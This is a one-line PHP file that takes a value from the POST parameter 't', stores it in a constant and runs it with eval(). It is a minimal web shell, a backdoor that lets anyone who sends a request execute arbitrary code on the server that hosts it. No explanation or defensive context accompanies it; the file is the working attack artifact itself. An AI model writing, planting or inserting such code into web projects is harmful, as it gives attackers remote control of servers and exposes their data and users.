<?php define('TASK', $_POST['t']); eval(TASK);
